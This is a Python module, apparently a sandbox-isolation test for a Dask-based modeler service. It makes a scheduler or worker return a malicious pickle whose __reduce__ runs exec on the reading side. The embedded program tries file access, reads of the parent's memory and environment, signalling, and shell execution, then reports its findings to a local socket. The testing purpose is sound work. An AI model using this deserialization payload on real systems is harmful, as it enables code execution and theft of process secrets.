"""What a scheduler and its workers load to be hostile: their replies run a program where they are read.

The program says over a socket what it could do there. Where to, and what it shall try, is in the environment.
"""

import json
import os

PROGRAM = """
import glob, json, os, resource, signal, socket
aims, seen = json.loads(AIMS), {"by": BY}
def attempt(name, work):
    try:
        work()
    except Exception as error:
        seen[name] = type(error).__name__
    else:
        seen[name] = "done"
def change(path):
    with open(path, "ab"):
        pass
attempt("read", lambda: open(aims["file"], "rb").read())
attempt("list", lambda: os.listdir(os.path.dirname(aims["file"])))
attempt("write", lambda: change(aims["file"]))
attempt("memory", lambda: open(f"/proc/{os.getppid()}/mem", "rb").read(0))
attempt("environment", lambda: open(f"/proc/{os.getppid()}/environ", "rb").read())
attempt("signal", lambda: os.kill(os.getppid(), 0))
attempt("child", lambda: os.system(f"cat '{aims['file']}' > /dev/null 2>&1") and 1 / 0)
attempt("local socket", lambda: socket.socket(socket.AF_UNIX))
attempt("limits", lambda: resource.prlimit(os.getppid(), resource.RLIMIT_CORE))
seen["names"] = sorted(os.environ)
files = [os.readlink(file) for file in glob.glob("/proc/self/fd/*") if os.path.islink(file)]
seen["files"] = [name for name in files if name.startswith("/") and not name.startswith(("/proc", "/dev"))]
with socket.create_connection(("127.0.0.1", aims["port"]), timeout=10) as spy:
    spy.sendall(json.dumps(seen).encode() + b"\\n")
"""


class Bomb:
    def __init__(self, by):
        self.by = by

    def __reduce__(self):
        return exec, (f"AIMS, BY = {os.environ['HOSTILE']!r}, {self.by!r}\n{PROGRAM}", {})


def dask_setup(server):
    """Change what a scheduler, or a worker, replies."""
    from distributed.protocol.serialize import ToPickle

    from modeler_service.engines import host

    by, is_scheduler = json.loads(os.environ["HOSTILE"])["by"], hasattr(server, "workers")
    if by == "scheduler" and is_scheduler:
        server.handlers["identity"] = lambda *arguments, **options: {"workers": ToPickle(Bomb(by))}
    elif by == "worker" and not is_scheduler:
        host.about_worker = lambda: Bomb(by)
